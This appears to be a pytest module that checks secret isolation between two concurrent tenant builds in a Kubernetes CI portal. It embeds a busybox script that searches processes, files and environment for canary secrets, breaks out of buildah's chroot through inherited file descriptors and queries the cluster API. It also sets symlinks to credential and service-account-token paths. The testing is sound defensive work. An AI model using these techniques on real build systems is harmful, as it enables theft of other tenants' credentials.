"""Two repositories with credentials of their own, built at the same time: one of them searches for the secrets of both.

Every secret of these tests has CANARY in it. What the hostile Dockerfile runs looks for that word, and for its Base64, wherever
it gets to: environment, processes, files, out of buildah's chroot too. It prints where it found it; the test knows where it may.
"""

from __future__ import annotations

import gzip
import json
import re
import secrets
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from runners.backends.kubernetes import KubernetesBackend
from runners.build import BuildSecrets, BuildSpec
from tests.support.cluster import BUSYBOX, DOCKERFILE, HOST, SECRETS, Built, Workshop, follow_to_end, wait_until
from tests.support.git_server import Content, Submodule, Symlink
from tests.support.registry_server import RegistryServer, run_registry

pytestmark = pytest.mark.needs_cluster

#: Patterns that do not match themselves: the word, and what Base64 makes of it behind a name and colon of 9 characters.
WORD = "[C]ANARY|[Q]0FOQVJZ"
TOKEN = "var/run/secrets/kubernetes.io/serviceaccount/token"
HUNT = r"""#!/bin/busybox sh
# Search below $1, which is / or leads to the root of something else.
hunt() {
    for place in ci-portal tmp run root home etc src dev/shm var/tmp var/lib var/run; do
        find "$1/$place" \( -name proc -o -name sys \) -prune -o -type f -size -64k -exec grep -lE 'WORD' {} + 2>/dev/null
    done | while read -r path; do
        echo "FOUND $path $(grep -ohE '[C]ANARY-[a-z]+-[a-z]+' "$path" | sort -u | tr '\n' ' ')"
    done
    for path in "$1/TOKEN" "$1/run/secrets/kubernetes.io/serviceaccount/token" "$1/ci-portal/git/password"; do
        [ -s "$path" ] && echo "FOUND $path"
    done
}
processes() {
    for known in environ cmdline; do
        for path in /proc/[0-9]*/$known; do
            found=$(tr '\0' '\n' <"$path" 2>/dev/null | grep -oE 'WORD' | head -n 1) && [ -n "$found" ] && echo "FOUND $path"
        done
    done
    for root in /proc/[0-9]*/root; do [ "$(readlink "$root")" = / ] || hunt "$root"; done
}
case $1 in
outside) # busybox's chroot goes to the new root, but what was opened before stays outside of it
    cd -P "/self/fd/3/../../../../../../../../../../.." && exec /self/fd/4/busybox chroot . /bin/sh /proc/self/fd/5/hunt.sh free ;;
free)
    echo "OUTSIDE $(cd / && echo *)"
    PATH=/usr/bin:/bin
    hunt ''
    processes
    export HOME=/ci-portal/home GIT_TERMINAL_PROMPT=0
    echo "API $(git -c http.sslVerify=false ls-remote https://SERVICE/api/v1/namespaces/SPACE/secrets 2>&1 | tr '\n' ' ')"
    exit ;;
esac
env | grep -qE 'WORD' && echo "FOUND env"
hunt ''
processes
for link in /src/evil-*; do [ -s "$link" ] && echo "FOUND $link"; done
exec 3</ 4</bin 5</src
chroot /proc /self/fd/4/busybox sh /self/fd/5/hunt.sh outside
echo HUNTED
"""
EVIL: dict[str, Content] = {
    "evil-password": Symlink("/ci-portal/git/password"),
    "evil-login": Symlink("/ci-portal/registry/config.json"),
    "evil-token": Symlink(f"/{TOKEN}"),
    "evil-environment": Symlink("/proc/1/environ"),
    ".gitattributes": "* filter=evil\n",
    ".dockerignore": "!../../ci-portal\n",
    "bait": "CANARY-bait-own\n",
}
#: With BuildKit a RUN step shares the daemon's processes, and so can get at the login with which that pushes (docs/security.md).
OWN_LOGIN = re.compile(r"FOUND /proc/\d+/root/+ci-portal/registry/\S*config\.json *")


@dataclass
class Tenant:
    """A repository, its logins at the git server and at a registry of its own, and what these tests build of it."""

    name: str
    shop: Workshop
    registry: RegistryServer
    builder: str

    def __post_init__(self) -> None:
        self.repository = f"{self.name}-{secrets.token_hex(4)}.git"
        self.git_login = (f"reader-{self.name}", f"CANARY-git-{self.name}-{secrets.token_hex(8)}")
        self.shop.git.require_login(self.repository, *self.git_login)
        self.bare = self.shop.git.repository(self.repository)

    @property
    def secrets(self) -> BuildSecrets:
        return BuildSecrets(
            git_username=self.git_login[0],
            git_password=self.git_login[1],
            registry_username=self.registry.username,
            registry_password=self.registry.password,
        )

    @property
    def url(self) -> str:
        return self.shop.git.url(self.repository, HOST)

    def spec(self, files: dict[str, Content], **changes: Any) -> BuildSpec:
        commit = self.bare.commit({"busybox": BUSYBOX.read_bytes(), **files})
        place = {"registry": self.registry.address, "insecure_registry": True, "registry_user": self.registry.username}
        of_the_shop = self.shop.spec({"Dockerfile": DOCKERFILE}, builder=self.builder, **place)
        return replace(of_the_shop, **{"repo_url": self.url, "commit": commit, "repo_name": self.name, **changes})

    def build(self, spec: BuildSpec) -> Built:
        """By a backend of its own, as another process of the portal would."""
        backend = KubernetesBackend(self.shop.settings, self.shop.space.kubeconfig)
        try:
            backend.launch(spec, self.secrets)
            return follow_to_end(backend, spec)
        finally:
            backend.close()


@pytest.fixture(scope="module", params=["buildkit", "buildah"])
def tenants(request: pytest.FixtureRequest, shop: Workshop) -> Iterator[tuple[Tenant, Tenant]]:
    with ExitStack() as stack:
        made = []
        for name in ("alpha", "omega"):
            login = (f"pushes-{name[0]}", f"CANARY-push-{name}-{secrets.token_hex(8)}")
            made.append(Tenant(name, shop, stack.enter_context(run_registry(HOST, login=login)), request.param))
        yield made[0], made[1]


@dataclass
class Hunted:
    """How both builds went."""

    hostile: Built
    victim: Built
    specs: tuple[BuildSpec, BuildSpec]

    @property
    def printed(self) -> str:
        return self.hostile.printed("build").decode("utf-8", "replace")

    @property
    def found(self) -> set[str]:
        """What the hunt printed; BuildKit puts a step's number and a time before each line."""
        lines = re.findall(r"(?m)^(?:#\d+ [\d.]+ )?(FOUND .*|OUTSIDE .*|API .*)$", self.printed)
        return {line.strip() for line in lines}


@pytest.fixture(scope="module")
def hunted(tenants: tuple[Tenant, Tenant], shop: Workshop) -> Hunted:
    hunter, victim = tenants
    service = shop.space.admin.request("GET", "/api/v1/namespaces/default/services/kubernetes")[0]["spec"]["clusterIP"]
    script = HUNT.replace("WORD", WORD).replace("TOKEN", TOKEN).replace("SERVICE", service).replace("SPACE", shop.space.name)
    applets = "chroot env find grep head readlink sh sort tr"
    linked = f"for name in {applets}; do /bin/busybox ln -s busybox /bin/$name; done"
    hunting = f"COPY . /src/\nRUN {linked}; PATH=/bin sh /src/hunt.sh here\n"
    hostile = hunter.spec({**EVIL, "Dockerfile": DOCKERFILE + hunting, "hunt.sh": script})
    quiet = victim.spec({"Dockerfile": DOCKERFILE + "RUN /bin/busybox sleep 20\n"})
    with ThreadPoolExecutor(2) as both:
        first, second = both.submit(victim.build, quiet), both.submit(hunter.build, hostile)
        return Hunted(second.result(), first.result(), (hostile, quiet))


def test_both_builds_ran_at_the_same_time(hunted: Hunted):
    one, other = (next(c for c in built.state.containers if c.name == "build") for built in (hunted.hostile, hunted.victim))
    assert one.started_at < other.finished_at
    assert other.started_at < one.finished_at


def test_the_hunt_went_to_its_end_and_finds_what_there_is(hunted: Hunted):
    assert "HUNTED" in hunted.printed, hunted.printed
    assert "FOUND /src/bait CANARY-bait-own" in hunted.found, hunted.printed
    assert (hunted.hostile.state.problem, hunted.victim.state.problem) == ("", "")


# BuildKit makes containers, which the trick does not leave.
@pytest.mark.parametrize("tenants", ["buildah"], indirect=True)
def test_out_of_the_chroot_there_is_the_checkout_and_no_secret(hunted: Hunted):
    assert any(line.startswith("OUTSIDE ") and "ci-portal" in line for line in hunted.found), hunted.printed
    assert any(line.endswith("/ci-portal/work/source/bait CANARY-bait-own") for line in hunted.found), hunted.printed


def test_a_build_finds_no_secret_of_its_own_and_none_of_the_other(hunted: Hunted):
    found = {line for line in hunted.found if line.startswith("FOUND ") and not line.endswith("bait CANARY-bait-own")}
    if hunted.specs[0].builder == "buildkit":
        found = {line for line in found if not OWN_LOGIN.fullmatch(line)}
    # buildah keeps the layers that it made of the checkout.
    assert {line for line in found if "CANARY-bait-own" not in line} == set(), hunted.printed
    assert "omega" not in hunted.printed.replace("reader-omega", "")


@pytest.mark.parametrize("tenants", ["buildah"], indirect=True)
def test_the_api_knows_no_build(hunted: Hunted):
    """Nothing keeps this cluster's pods from the API server; a build that gets there, with the builder image's git, is nobody."""
    (answer,) = [line for line in hunted.found if line.startswith("API ")]
    assert "error: 403" in answer or "could not read Username" in answer, answer


def test_no_secret_is_in_what_was_printed_or_pushed(hunted: Hunted, tenants: tuple[Tenant, Tenant]):
    everything = [hunted.hostile.printed(name) + hunted.victim.printed(name) for name in ("clone", "build", "push")]
    for tenant in tenants:
        everything += blobs(tenant.registry.folder)
        for secret in (tenant.git_login[1], tenant.registry.password):
            assert not [text for text in everything if secret.encode() in text]
    assert any(b"CANARY-bait-own" in text for text in everything), "layers are looked into"


def blobs(folder: Path) -> list[bytes]:
    """All that a registry keeps, layers unpacked."""
    kept = [path.read_bytes() for path in folder.rglob("data") if path.is_file()]
    return [gzip.decompress(data) if data.startswith(b"\x1f\x8b") else data for data in kept]


def test_each_pod_mounts_its_own_secret_alone(hunted: Hunted, shop: Workshop):
    for spec in hunted.specs:
        (pod,) = shop.space.pods(spec)
        named = {volume["secret"]["secretName"] for volume in pod["spec"]["volumes"] if "secret" in volume}
        assert named == {spec.name, "test-ca"}
        assert "serviceAccountToken" not in json.dumps(pod["spec"])


def test_a_link_out_of_the_checkout_is_not_followed_into_the_image(tenants: tuple[Tenant, Tenant]):
    tenant, _ = tenants
    spec = tenant.spec({"evil-login": EVIL["evil-login"], "Dockerfile": "FROM scratch\nCOPY evil-login /stolen\n"})
    built = tenant.build(spec)
    assert built.state.finished
    assert not [data for data in blobs(tenant.registry.folder) if tenant.registry.password.encode() in data]
    assert not [data for data in blobs(tenant.registry.folder) if b'{"auths"' in data]


@pytest.mark.parametrize("tenants", ["buildah"], indirect=True)
def test_a_submodule_that_is_another_repository_is_not_fetched_with_this_ones_login(tenants: tuple[Tenant, Tenant]):
    tenant, victim = tenants
    theirs = victim.bare.commit({"Dockerfile": "FROM scratch\n"})
    modules = f'[submodule "theirs"]\n\tpath = theirs\n\turl = {victim.url}\n'
    files: dict[str, Content] = {"Dockerfile": DOCKERFILE, ".gitmodules": modules, "theirs": Submodule(theirs)}
    built = tenant.build(tenant.spec(files, submodules=True))
    assert built.report("clone")["error"] == "submodules_failed"
    assert "build" not in built.pieces


@pytest.mark.parametrize("tenants", ["buildah"], indirect=True)
def test_a_submodule_is_no_way_to_the_files_of_the_pod(tenants: tuple[Tenant, Tenant]):
    tenant, _ = tenants
    modules = '[submodule "files"]\n\tpath = files\n\turl = file:///ci-portal/git\n'
    files: dict[str, Content] = {"Dockerfile": DOCKERFILE, ".gitmodules": modules, "files": Submodule("1" * 40)}
    built = tenant.build(tenant.spec(files, submodules=True))
    assert built.report("clone")["error"] == "submodules_failed"
    assert b"transport 'file' not allowed" in built.printed("clone")


# Names of Secrets that somebody chose


@pytest.mark.parametrize("kind", ["the Secret of another run", "a registry's login", "a service account's token"])
def test_a_ca_secret_that_names_something_else_gives_nothing(shop: Workshop, kind: str):
    queued = KubernetesBackend(replace(shop.settings, queue="nobodys"), shop.space.kubeconfig)
    other = shop.spec({"Dockerfile": DOCKERFILE})
    queued.launch(other, SECRETS)
    login = {"metadata": {"name": f"login-{other.name}"}, "type": "kubernetes.io/dockerconfigjson"}
    login["stringData"] = {".dockerconfigjson": '{"auths":{}}'}
    shop.space.create("secrets", login)
    token = {"metadata": {"name": f"token-{other.name}", "annotations": {"kubernetes.io/service-account.name": "portal"}}}
    shop.space.create("secrets", {**token, "type": "kubernetes.io/service-account-token"})
    names = {
        "the Secret of another run": other.name,
        "a registry's login": f"login-{other.name}",
        "a service account's token": f"token-{other.name}",
    }
    spec = shop.spec({"Dockerfile": DOCKERFILE}, ca_secret=names[kind])
    shop.backend.launch(spec, SECRETS)
    try:
        wait_until(shop.backend, spec, lambda state: bool(shop.space.pods(spec)), 30)
        (pod,) = shop.space.pods(spec)
        mounts = [volume["secret"] for volume in pod["spec"]["volumes"] if volume["name"] == "ca"]
        assert [item["key"] for mount in mounts for item in mount["items"]] == ["ca.crt"]
        if kind != "a service account's token":  # that one has the cluster's own certificate, which is no secret
            empty = f"The Secret {names[kind]} that ca_secret names has no ca.crt: add it."
            state = wait_until(shop.backend, spec, lambda state: state.problem == empty, 60)
            assert not any(container.started_at for container in state.containers)
    finally:
        shop.backend.delete(spec)
        queued.delete(other)
        queued.close()
